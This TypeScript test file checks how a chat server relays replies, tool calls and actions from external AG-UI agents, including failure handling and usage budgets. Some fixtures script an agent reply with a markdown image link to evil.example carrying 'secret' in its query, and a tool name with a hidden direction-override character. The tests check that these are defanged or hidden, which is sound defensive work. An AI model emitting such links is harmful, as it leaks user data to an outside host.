/** External agents that answer: a real server speaks AG-UI. */
import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import {
  type AgUiCall,
  type AgUiReply,
  CUT,
  GARBAGE,
  questionOf,
  useAgUiServer,
} from '../../../test/ag-ui-server.ts'
import { type Asking, ask, type Run, runOf } from '../../../test/agent-runs.ts'
import { Device, type Frame, tokenOf } from '../../../test/device.ts'
import { refused, useServer } from '../../../test/kit.ts'
import { until } from '../../../test/until.ts'

const server = useServer({
  roles: ['api', 'worker', 'gateway'],
  env: { LOQUAT_WEBHOOK_PRIVATE_TARGETS: 'true' },
})

/** What the agent does about a question. */
const scripts = new Map<string, (call: AgUiCall) => AgUiReply>()
const external = useAgUiServer(
  (call) => scripts.get(questionOf(call))?.(call) ?? ['You said: ', questionOf(call)],
)
const callsOf = (question: string) => external.calls.filter((call) => questionOf(call) === question)

async function newAgent(meta: object = {}, more: object = {}): Promise<Asking> {
  const app = await server.newApp()
  const [amira] = await app.users('amira')
  const { url: baseUrl, key } = external
  const { uid: agent } = await app.client.externalAgents.create({
    ...{ name: 'Planner', icon: 'https://example.com/p.png', integrateWith: 'ag-ui' },
    ...{ integrationType: 'agent', ...more },
    integrationMeta: { baseUrl, headers: { Authorization: key }, ...meta },
  })
  return { app, amira, agent }
}

const textOf = async ({ amira }: Asking, { answerId = '' }: Run): Promise<string> =>
  (await amira.call('GET', `/v3/messages/${answerId}`)).body.data.data.text

const called = (name: string, id: string, args = '{}') => [
  { type: 'TOOL_CALL_START', toolCallId: id, toolCallName: name },
  { type: 'TOOL_CALL_ARGS', toolCallId: id, delta: args },
  { type: 'TOOL_CALL_END', toolCallId: id },
]

suite('an external agent', () => {
  test('answers, and knows who asks, its thread and no other', async () => {
    const asking = await newAgent({ agentId: 'planner-1' }, { instruction: 'Be brief.' })
    await ask(asking, 'Something else')
    const first = await ask(asking, 'One')
    assert.deepEqual([first.state, first.reason], ['finished', 'answered'])
    assert.equal(await textOf(asking, first), 'You said: One')
    const run = await ask(asking, 'Two', { parentMessageId: Number(first.messageId) })
    const [call, ...others] = callsOf('Two')
    assert.equal(others.length, 0)
    assert.deepEqual(
      [call?.runId, call?.threadId, call?.forwardedProps],
      [run.id, first.messageId, { agentId: 'planner-1' }],
    )
    assert.deepEqual(
      call?.messages.map(({ id, role, content }) => [id, role, content]),
      [
        ['instruction', 'system', 'Be brief.'],
        [first.messageId, 'user', 'One'],
        [first.answerId, 'assistant', 'You said: One'],
        [run.messageId, 'user', 'Two'],
      ],
    )
    assert.match(call?.context[0]?.value ?? '', /"uid":"amira"/)
    const [step] = run.steps
    assert.deepEqual(
      [step?.kind, step?.state, step?.providerId, step?.chargedTokens],
      ['agent_call', 'done', undefined, 0],
    )
  })

  test('shows the calls of its tools and its text to devices while it answers', async () => {
    const asking = await newAgent({}, { tools: [] })
    const { app, amira, agent } = asking
    await app.client.agentTools.create({
      ...{ name: 'look', displayName: 'Look it up', executionText: 'Looking …' },
      doNotExecute: true,
    })
    await app.client.externalAgents.update(agent, { tools: ['look'] })
    const read = Promise.withResolvers<void>()
    scripts.set('Show me', async function* () {
      yield* called('look', 'c1', '{"day":"Monday"}')
      yield { type: 'TOOL_CALL_RESULT', toolCallId: 'c1', messageId: 'r1', content: 'On call' }
      yield 'You are '
      await read.promise
      yield 'on call. ![x](https://evil.example/?q=secret)'
    })
    const port = server.service.gatewayPort ?? 0
    const device = await Device.connect(port, app, await tokenOf(app, 'amira'))
    const { id } = await amira.sendText(agent, 'Show me')
    const eventOf = (type: string) =>
      device.waitFor('agent.event', ({ body }) => body.type === type).then(({ body }) => body)
    const [begun, result, piece] = await Promise.all([
      eventOf('tool_call_start'),
      eventOf('tool_call_result'),
      eventOf('text_message_content'),
    ])
    assert.deepEqual(begun.data, {
      ...{ toolCallId: 'c1', name: 'look', displayName: 'Look it up' },
      executionText: 'Looking …',
    })
    assert.deepEqual([result.data.content, piece.data.delta], ['On call', 'You are '])
    read.resolve()
    const run = await runOf(asking, id)
    assert.equal(await textOf(asking, run), 'You are on call. [x](https://evil.example/?q=secret)')
    const { body } = await amira.call('GET', `/v3/messages/${run.answerId}`)
    assert.deepEqual(body.data.data.metadata, { tools: [{ id: 'c1', name: 'Look it up' }] })
    await device.close()
  })

  test('shows tools that nobody has described by their clean names, and with rules of moderation not at all', async () => {
    const asking = await newAgent()
    const { app, amira, agent } = asking
    scripts.set('Secretly', () => [
      ...called('go ![x](https://evil.example)\u202e', 'c7'),
      { type: 'TOOL_CALL_RESULT', toolCallId: 'c7', messageId: 'r7', content: 'Gone' },
      'Done.',
    ])
    const port = server.service.gatewayPort ?? 0
    const device = await Device.connect(port, app, await tokenOf(app, 'amira'))
    const shown = async () => {
      const { id } = await amira.sendText(agent, 'Secretly')
      const run = await runOf(asking, id)
      const isOfRun = ({ body }: Frame) => body.runId === run.id
      await device.waitFor(
        'agent.event',
        (frame) => isOfRun(frame) && frame.body.type === 'run_finished',
      )
      const calls = device.frames.filter(
        (frame) => frame.type === 'agent.event' && isOfRun(frame) && frame.body.data.toolCallId,
      )
      return calls.map(({ body: { type, data } }) => [type, data.name ?? data.content])
    }
    assert.deepEqual(await shown(), [
      ['tool_call_start', 'go [x](https://evil.example)'],
      ['tool_call_args', undefined],
      ['tool_call_end', undefined],
      ['tool_call_result', 'Gone'],
    ])
    const conditions = [{ category: 'word' as const, value: 'forbidden' }]
    await app.client.moderationRules.create({ id: 'r', name: 'R', enabled: true, conditions })
    assert.deepEqual(await shown(), [])
    await device.close()
  })

  test('lets a device carry out an action, and goes on with what came of it', async () => {
    const asking = await newAgent()
    const { app, amira, agent } = asking
    const parameters = { type: 'object', properties: { shift: { type: 'string' } } }
    await app.client.agentTools.create({
      ...{ name: 'swap', displayName: 'Swap', executionText: 'Swapping …', parameters },
      description: 'Swaps a shift',
    })
    await app.client.externalAgents.update(agent, { actions: ['swap'] })
    scripts.set('Swap it', ({ messages }) =>
      messages.at(-1)?.role === 'tool' ? ['Done.'] : called('swap', 'c2', '{"shift":"12"}'),
    )
    const { id } = await amira.sendText(agent, 'Swap it')
    const waiting = await runOf(asking, id, 'waiting')
    assert.deepEqual(
      waiting.steps.map(({ kind, state, tool, arguments: args }) => [kind, state, tool, args]),
      [
        ['agent_call', 'done', undefined, undefined],
        ['tool_call', 'waiting', 'swap', '{"shift":"12"}'],
      ],
    )
    await amira.agentRuns.continue(waiting.id, { toolCallId: 'c2', content: 'Swapped.' })
    const run = await runOf(asking, id)
    assert.equal(await textOf(asking, run), 'Done.')
    const [first, second] = callsOf('Swap it')
    assert.deepEqual(first?.tools, [{ name: 'swap', description: 'Swaps a shift', parameters }])
    assert.deepEqual(
      second?.messages.slice(-2).map(({ role, content, toolCallId, toolCalls }) => ({
        ...{ role, content, toolCallId, toolCalls },
      })),
      [
        {
          ...{ role: 'assistant', content: '', toolCallId: undefined },
          toolCalls: [
            {
              ...{ id: 'c2', type: 'function' },
              function: { name: 'swap', arguments: '{"shift":"12"}' },
            },
          ],
        },
        { role: 'tool', content: 'Swapped.', toolCallId: 'c2', toolCalls: undefined },
      ],
    )
  })

  for (const [what, reply, reason, calls] of [
    ['reports an error', () => [{ type: 'RUN_ERROR', message: 'Out of beds' }], 'agent_failed', 1],
    ['breaks off', () => ['Half', CUT], 'provider_unavailable', 1],
    ['sends garbage', () => [GARBAGE], 'provider_invalid', 1],
    ['sends events without a type', () => [{ kind: 'odd' }], 'provider_invalid', 1],
    ['refuses', () => 403, 'provider_refused', 1],
    ['is busy', () => 429, 'provider_limited', 3],
    ['has no answer', () => [], 'empty_answer', 1],
  ] as [string, () => AgUiReply, string, number][]) {
    test(`that ${what} fails with ${reason}, and isn't called again if it may have acted`, async () => {
      const asking = await newAgent()
      const question = `What if it ${what}?`
      scripts.set(question, reply)
      const run = await ask(asking, question)
      assert.deepEqual([run.state, run.reason], ['failed', reason])
      assert.equal(callsOf(question).length, calls)
      if (reason === 'agent_failed') assert.equal(run.error, 'Out of beds')
    })
  }

  test('that can be called again is, with the same key', async () => {
    const asking = await newAgent({ idempotent: true })
    const replies: AgUiReply[] = [['Half', CUT], ['Whole']]
    scripts.set('Again?', () => replies.shift() ?? 500)
    const run = await ask(asking, 'Again?')
    assert.equal(await textOf(asking, run), 'Whole')
    const keys = callsOf('Again?').map(({ headers }) => headers['idempotency-key'])
    assert.deepEqual(keys, [`${run.id}-1`, `${run.id}-1`])
  })

  test('with wrong credentials is refused', async () => {
    const asking = await newAgent({ headers: { authorization: 'Bearer wrong' } })
    const run = await ask(asking, 'Let me in')
    assert.deepEqual([run.reason, callsOf('Let me in').length], ['provider_refused', 0])
  })

  test('is replayed from the record only, because it does things by itself', async () => {
    const asking = await newAgent()
    const { agentReplays } = asking.app.client
    const run = await ask(asking, 'Once')
    await refused(agentReplays.start(run.id, { mode: 'live' }), 'ERR_BAD_REQUEST')
    const { id } = await agentReplays.start(run.id, { mode: 'recorded' })
    const replay = await until('the end of the replay', async () => {
      const found = await agentReplays.get(run.id, id)
      return found.endedAt === undefined ? undefined : found
    })
    assert.deepEqual([replay.text, replay.difference?.same], ['You said: Once', true])
    assert.equal(callsOf('Once').length, 1)
  })

  test('is limited by calls, for each user and the app', async () => {
    const asking = await newAgent()
    const { app, agent } = asking
    await app.client.agentBudgets.update({ userDayCalls: 1, runMoney: 0, runTokens: 0 })
    assert.equal((await ask(asking, 'First')).reason, 'answered')
    assert.equal((await ask(asking, 'Second')).reason, 'budget_user')
    await app.client.agentBudgets.update({ userDayCalls: null, appMonthCalls: 1 })
    const [ben] = await app.users('ben')
    const { id } = await ben.sendText(agent, 'Third')
    assert.equal((await runOf(asking, id)).reason, 'budget_app')
    const { tokens, money, calls } = (await app.client.agentBudgets.get()).spentThisMonth
    assert.deepEqual([tokens, money, calls], [0, 0, 1])
    assert.equal(callsOf('Second').length + callsOf('Third').length, 0)
  })
})
